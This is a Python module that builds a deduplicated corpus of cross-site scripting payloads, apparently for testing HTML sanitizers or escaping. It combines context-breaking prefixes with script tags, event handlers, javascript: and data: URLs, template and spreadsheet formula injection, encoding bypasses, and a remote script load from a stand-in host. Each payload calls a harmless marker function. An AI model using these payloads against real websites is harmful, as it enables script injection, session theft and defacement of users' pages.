"""Texts that would run in a page that trusts what it is given: each calls `xss()`.

They are put together here from what ends the text around them and from what then runs, so that
every way out is tried with every kind of runner.
"""

from __future__ import annotations

from collections.abc import Iterator

#: What ends an element's text, an attribute, a script, a comment, a style, a template, CDATA.
WAYS_OUT = (
    "", "\">", "'>", "`>", "\"'>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>",
    "</noscript>", "</template>", "</svg>", "*/</style>", "</a></p></div></main>",
)  # fmt: skip
#: What runs by itself in text.
ELEMENTS = (
    "<script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src='javascript:parent.xss()'></iframe>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>x</details>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()></audio>",
    "<object data='javascript:xss()'></object>",
    "<embed src='javascript:xss()'>",
    "<math><mtext><style><img src=x onerror=xss()></style></mtext></math>",
    "<style>@keyframes a{}</style><p style=animation-name:a onanimationstart=xss()>x</p>",
    "<body onload=xss()>",
    "<link rel=stylesheet href='data:text/css,*{}' onload=xss()>",
    "<base href='javascript:xss()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<form action='javascript:xss()'><button autofocus>x</button></form>",
    "<template shadowrootmode=open><img src=x onerror=xss()></template>",
    "<marquee onstart=xss()>x</marquee>",
    "<xss-tag tabindex=1 autofocus onfocus=xss()>x</xss-tag>",
)
#: What runs by itself within a tag, when an attribute is ended.
ATTRIBUTES = (
    "\" onerror=xss() x=\"", "' onload=xss() x='", "\" autofocus onfocus=xss() x=\"",
    "x onmouseover=xss() ", "\" style=animation-name:a onanimationstart=xss() x=\"",
    "\"onfocus=\"xss()\"autofocus=\"", "\u3000onfocus=xss() autofocus ",
)  # fmt: skip
#: Addresses that run.
ADDRESSES = (
    "javascript:xss()", "JaVaScRiPt:xss()", "java\u200bscript:xss()", " javascript:xss()",
    "javascript&colon;xss()", "&#106;avascript:xss()", "&#x6a;avascript:xss()",
    "javascript:/*--></title></style></textarea></script><svg onload=xss()>*/xss()",
    "data:text/html,<script>parent.xss()</script>", "vbscript:xss()", "//elsewhere.example/xss.js",
)  # fmt: skip
#: What runs within a script, data, a style, a template, a table or a drawing.
OTHERS = (
    "\";xss();//", "';xss();//", "`;xss();//", "${xss()}", "\\\";xss();//", "\\u003cscript>xss()",
    "\\u2028xss()//", "<!--<script>xss()</script>", "<![CDATA[<script>xss()",
    "{{constructor.constructor('xss()')()}}", "{{7*7}}{{xss()}}", "{% raw %}{{xss()}}", "#{xss()}",
    "<%= xss() %>", "[[xss()]]", "=HYPERLINK(\"javascript:xss()\")", "@SUM(1+1)*cmd|'/C xss'!A0",
    "+xss()", "-xss()", "%0d%0a<script>xss()</script>", "%3Cscript%3Exss()%3C/script%3E",
    "&lt;script&gt;xss()&lt;/script&gt;", "&#60;img src=x onerror=xss()&#62;", "expression(xss())",
    "url(javascript:xss())", "}</style><script>xss()</script>",
    "<?xml-stylesheet href='javascript:xss()'?>",
    "<!ENTITY x SYSTEM 'javascript:xss()'>",
    "<a xmlns:xlink='x' xlink:href='javascript:xss()'>x</a>",
    "＜script＞xss()＜/script＞", "<ſcript>xss()</ſcript>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<IMG SRC=x ONERROR=xss()>", "<img/src=x/onerror=xss()>", "<svg/onload=xss()//",
    "<script src=data:,xss()>",
    "<script>/*", "*/xss()</script>", "\"><!--", "--!><img src=x onerror=xss()>",
    "<p/onclick=xss()>",
)  # fmt: skip


def _all() -> Iterator[str]:
    for number, element in enumerate(ELEMENTS):
        yield element
        for step in (0, 5, 11):
            yield WAYS_OUT[(number + step) % len(WAYS_OUT)] + element
    yield from ATTRIBUTES
    yield from ADDRESSES
    yield from OTHERS


#: All of them, each once.
PAYLOADS = tuple(dict.fromkeys(_all()))
#: Those that run without anybody's doing when a page puts them out as they are.
RUNNING = ELEMENTS[:4]
